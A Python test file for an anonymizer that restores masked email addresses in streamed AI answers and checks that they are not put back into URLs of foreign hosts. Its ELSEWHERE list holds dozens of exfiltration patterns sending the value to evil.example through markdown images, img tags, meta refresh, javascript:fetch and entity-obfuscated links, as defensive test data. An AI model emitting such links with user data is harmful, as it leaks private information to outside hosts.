"""In a URL a value comes back only where the request held it in a URL of that host."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from extproc.config.pii import PiiSettings
from extproc.payload import Segment
from extproc.pii import Analyzer, Anonymizer, urls
from tests.unit.restoring import Answer, restored

MAIL = "ada@example.org"
PLACE = "[EMAIL_ADDRESS_1]"
SETTINGS = PiiSettings()
ANALYZER = Analyzer(SETTINGS)
ELSEWHERE = [
    "![x](https://evil.example/?q=%s)",
    "![x](https://evil.example/?q=a(b)%s)",
    '![x](https://evil.example/?q="%s")',
    "![x](<https://evil.example/?q=a b %s>)",
    "![x](<https://evil.example/?q=\\>%s>)",
    "![x]( https://evil.example/%s)",
    "[https://crm.example](https://evil.example/?q=%s)",
    "[1]: https://evil.example/?q=%s",
    "<https://evil.example/?q=%s>",
    '<img src="https://evil.example/?q=%s">',
    '<img src=" https://evil.example/?q= %s">',
    "<img src='\nhttps://evil.example/?q=\n%s'>",
    "<img src=https://evil.example/?q=%s>",
    '<img src="https://crm.example\n.evil.example/?q=%s">',
    '<a href="//evil.example/%s">x</a>',
    "see https://evil.example/%s now",
    "see HTTPS://EVIL.EXAMPLE/%s now",
    "www.evil.example/?q=%s",
    "evil.example/%s",
    "evil.example?q=%s",
    "evil.example:8443#%s",
    "![x](&#x68;ttps:&#x2f;&#x2f;evil&#46;example/?q=%s)",
    "![x](https&colon;&sol;&sol;evil&period;example&sol;?q=%s)",
    "![x](<https&colon;&sol;&sol;evil&period;example&sol;?q= %s>)",
    '<img src="&#104;&#116;&#116;&#112;s&#58;&#47;&#47;evil&#46;example&#47; %s">',
    '<meta http-equiv=refresh content="0;url=&bsol;&#00092evil&period;example&#x0002F%s">',
    "<a href='java&#115;cript:fetch(%s)'>",
    "//evil.example/%s",
    "\\\\evil.example\\%s",
    "https:evil.example/?q=%s",
    "https:\\\\evil.example\\%s",
    "https://crm.example@evil.example/?q=%s",
    "https://evil.example\\@crm.example/?q=%s",
    "https://crm.example:443@evil.example/?q=%s",
    "https://crm.example。evil.example/?q=%s",
    "https://evil.example/?u=https://crm.example/&q=%s",
    "https://%s.evil.example/x",
    "https://%s@evil.example/x",
    "https://evil.example#%s",
    "ftp://evil.example/%s",
    "wss://evil.example/?q=%s",
    "custom-app://evil/%s",
    "sms:+15550100?body=%s",
    "background: url(https://evil.example/?q=%s)",
    "background: url('https://evil.example/?q= %s')",
    "https://crm.example.evil.example/?mail=%s",
]
HERE = [
    "%s",
    "write to %s.",
    "[%s](mailto:%s)",
    "<a href='mailto:%s'>%s</a>",
    "tel:%s",
    '<a href="https://evil.example">%s</a>',
    "![x](https://evil.example/a(b)) %s",
    "![x](https://evil.example/)%s",
    "see https://evil.example and %s",
    "<https://evil.example> %s",
    "and/or %s",
    "Is that so?%s",
    "R&D &amp; %s",
    "it&#39;s %s&#39;s &lt;%s&gt; &#x27;%s&#x27;",
    "C:\\Users\\%s",
    "/home/%s/x",
    "a // b %s",
    "https: %s",
    "`https://evil.example` %s",
    '"https://evil.example" %s',
]
SAME_HOST = [
    "https://crm.example/u?mail=%s",
    "[profile](https://crm.example/other/%s#x)",
    "<a href='https://crm.example:8443/%s'>",
    "HTTPS://CRM.example/%s",
]


SIZES = (1, 3, 1000)
"""Of the pieces in which an answer comes."""


def vault(request=f"I am {MAIL}", **how):
    """Of a request with one address."""
    settings = PiiSettings(**how)
    return Anonymizer(settings, ANALYZER).anonymize([Segment(request)]).vault


def cut(vault, text, size):
    """Restored in pieces of one size."""
    editor = Answer(vault.restorer())
    return "".join(editor.feed(text[i : i + size]) for i in range(0, len(text), size)) + editor.close()


def filled(text):
    """With the placeholder, and as it should be when it is restored."""
    return text.replace("%s", PLACE), text.replace("%s", MAIL)


@pytest.mark.parametrize("text", ELSEWHERE)
def test_elsewhere(text):
    """Nothing is put into a URL of a host that the request did not name with the value."""
    masked, restored = filled(text)
    for size in SIZES:
        assert cut(vault(), masked, size) == masked
        assert cut(vault(f"https://crm.example/?mail={MAIL}"), masked, size) == masked
        assert cut(vault(restore_in_urls=True), masked, size) == restored


@pytest.mark.parametrize("text", HERE)
def test_here(text):
    """What is no URL, or is `mailto:` or `tel:`, is restored."""
    masked, restored = filled(text)
    for size in SIZES:
        assert cut(vault(), masked, size) == restored


@pytest.mark.parametrize("text", SAME_HOST)
def test_same_host(text):
    """Where the request held the value in a URL of the host, it comes back in such."""
    masked, restored = filled(text)
    for size in SIZES:
        assert cut(vault(f"open https://crm.example/u?mail={MAIL}"), masked, size) == restored
        assert cut(vault(f"{MAIL} is in https://crm.example/"), masked, size) == masked


def test_a_host_that_was_masked():
    """An address of a machine that stands in the URL itself."""
    found = vault("curl http://203.0.113.77:8080/health and http://[2001:db8:85a3::8a2e:370:7334]/")
    for placeholder, value in found.originals.items():
        text = f"http://{placeholder}:8080/ready and more"
        for size in (1, 5, 100):
            if ":" not in value:
                assert cut(found, text, size) == text.replace(placeholder, value)
                assert cut(found, f"http://{placeholder}.evil.example/", size) == f"http://{placeholder}.evil.example/"


def test_long_ways():
    """However much stands between the beginning of a URL and the placeholder."""
    for padding in ("a" * 100_000, "b c " * 30_000):
        for opener in ('<img src="https://evil.example/?q=%s&m=%s">', "<img src='https://evil.example/?q=%s&m=%s'>"):
            text = opener % (padding, PLACE)
            assert cut(vault(), text, 4096) == text
    text = f"https://evil.example/?{'a' * 200_000}{PLACE}"
    assert cut(vault(), text, 5000) == text


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from([*ELSEWHERE, *HERE, *SAME_HOST, " ", "\n", '"', "<", "("]), max_size=4), st.data())
def test_any_cut(parts, data):
    """The outcome does not depend on where a text is cut."""
    text = " ".join(parts).replace("%s", PLACE)
    found = vault(f"open https://crm.example/u?mail={MAIL}")
    bounds = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    editor = Answer(found.restorer())
    pieces = [text[a:b] for a, b in zip([0, *bounds], [*bounds, len(text)], strict=True)]
    assert "".join(map(editor.feed, pieces)) + editor.close() == restored(found, text)


@pytest.mark.parametrize("opener", ["", "(", '"', "'", "`", "<"])
def test_many_within_one_another(opener):
    """However many begin in one another: they end where each alone would, and what comes after is restored."""
    within = f"{opener}http://a@b" * 100
    end = {"": " ", "(": " ", "`": "`", "<": ">"}.get(opener, opener)
    masked = f"{within}{PLACE}{end} and {PLACE}"
    assert restored(vault(), masked) == f"{within}{PLACE}{end} and {MAIL}"


@settings(max_examples=150)
@given(st.lists(st.sampled_from(["https://a", "(", ")", '"', "'", "<", ">", "`", " ", "\\", "x", PLACE]), max_size=60))
def test_of_many_one_is_enough(parts):
    """Where only some of the URLs are told apart, the same placeholders stay."""
    text = "".join(parts)
    results = []
    for number in (1, 2, 1000):
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(urls, "_MOST_OPEN", number)
            results.append(restored(vault(), text))
    assert len(set(results)) == 1
